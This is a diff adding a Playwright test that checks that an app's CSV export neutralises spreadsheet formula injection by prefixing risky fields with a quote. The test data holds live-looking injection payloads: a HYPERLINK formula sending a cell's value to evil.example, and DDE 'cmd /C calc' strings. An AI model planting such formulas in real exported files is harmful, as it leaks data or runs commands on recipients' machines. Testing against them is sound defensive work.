@@ -6,7 +6,8 @@
  * shown as text (so the test would see it if it were dropped instead of escaped).
  */
 import { expect, test, type Page } from "@playwright/test";
-import { demoUrl, listItems, readLocalTask, resetEmulator, watchPage } from "./support/journeyEmulator";
+import * as fs from "fs";
+import { demoUrl, listItems, readLocalTask, resetEmulator, updateItem, watchPage } from "./support/journeyEmulator";
 
 const ANNE = "Anne Kirstine Holm";
 import { startHostileEmulator, writeHostileSeed, xssPayloads, type HostileSeed } from "./support/journeyHostileSeed";
@@ -212,5 +213,23 @@ test.describe("bad input in the editable fields", () => {
     await save.click({ force: true });
     await panel.getByRole("button", { name: "Annullér" }).click();
     expect((await readLocalTask(request, 519)).OirNote).toBe(pl12Before.OirNote);
+  });
+  test("a note Excel would run as a formula is exported as text", async ({ page, request }) => {
+    const pl12 = await readLocalTask(request, 519);
+    const formulas = ['=HYPERLINK("https://evil.example/?d="&A1;"Åbn")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"];
+    for (const [i, code] of [519, 512, 513, 501].entries()) {
+      const item = code === 519 ? pl12 : await readLocalTask(request, code);
+      await updateItem(request, "Planer", item.Id, { OirNote: formulas[i] });
+    }
+    await page.goto(demoUrl());
+    const timeline = page.getByRole("region", { name: /ØiR-tidsplan/ });
+    await expect(page.getByRole("grid", { name: /^Tidsplan for/ })).toBeVisible();
+    await timeline.getByRole("button", { name: "Eksportér" }).click();
+    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("menuitem", { name: /CSV/ }).click()]);
+    const csv = fs.readFileSync((await download.path()) ?? "", "utf8");
+    // Every field (after its optional quote) that starts like a formula starts with ' instead.
+    const fields = csv.split(/;|\r\n/).map((f) => f.replace(/^"/, ""));
+    expect(fields.filter((f) => /^[=+\-@]/.test(f) && !/^-\d+$/.test(f))).toEqual([]);
+    for (const formula of formulas) expect(csv).toContain(`'${formula.replace(/"/g, '""')}`);
   });
 });
